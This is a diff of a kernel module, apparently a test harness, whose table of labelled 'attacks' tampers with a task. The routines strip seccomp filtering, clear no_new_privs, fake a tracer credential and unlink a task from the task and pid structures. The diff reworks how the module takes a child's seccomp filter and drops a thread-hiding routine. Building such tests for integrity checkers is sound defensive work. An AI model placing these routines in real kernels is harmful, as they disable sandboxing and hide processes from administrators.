@@ -519,17 +519,22 @@ static int clear_seccomp(struct task_struct *task, size_t field)
 }
 
 /*
- * The filters of the last child, who has less.  Each task holds references on
- * the innermost one: exchange the filters, so that they come out even.
+ * The filters of the last child, who has less.  A filter begins with the two
+ * counts of its users, which only seccomp knows; that of before stays.
  */
-static int exchange_filter(struct task_struct *task, size_t field)
+static int take_filter(struct task_struct *task, size_t field)
 {
 #ifdef CONFIG_SECCOMP
 	struct task_struct *const child = get_last_child(task);
+	refcount_t *counts;
 
 	if (!child)
 		return -ESRCH;
-	swap(task->seccomp.filter, child->seccomp.filter);
+	counts = (refcount_t *)child->seccomp.filter;
+	refcount_inc(&counts[0]);
+	refcount_inc(&counts[1]);
+	kmemleak_ignore(task->seccomp.filter);
+	WRITE_ONCE(task->seccomp.filter, child->seccomp.filter);
 	put_task_struct(child);
 	return 0;
 #else
@@ -571,16 +576,6 @@ static int hide_from_tasks(struct task_struct *task, size_t field)
 	struct list_head *const entry = &task->group_leader->tasks;
 
 	/* Nobody else changes the list: the machine does nothing but this */
-	entry->prev->next = entry->next;
-	entry->next->prev = entry->prev;
-	INIT_LIST_HEAD(entry);
-	return 0;
-}
-
-static int hide_from_threads(struct task_struct *task, size_t field)
-{
-	struct list_head *const entry = &task->thread_node;
-
 	entry->prev->next = entry->next;
 	entry->next->prev = entry->prev;
 	INIT_LIST_HEAD(entry);
@@ -791,14 +786,13 @@ static const struct attack attacks[] = {
 	ATTACK("seccomp-work", clear_seccomp_work,
 	       "own system calls are not filtered any more"),
 	ATTACK("seccomp-mode", clear_seccomp, "own seccomp mode becomes 0"),
-	ATTACK("seccomp-filter", exchange_filter,
+	ATTACK("seccomp-filter", take_filter,
 	       "own filters become those of the last child"),
 	ATTACK("no_new_privs", clear_no_new_privs, "own no_new_privs is cleared"),
 	ATTACK("ptracer_cred", overwrite_tracer,
 	       "own tracer seems to have the credential of init"),
 	ATTACK("flags", set_private_flag, "own flags get a private mark"),
 	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
-	ATTACK("hide-threads", hide_from_threads, "off the list of threads"),
 	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
 	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
 	{
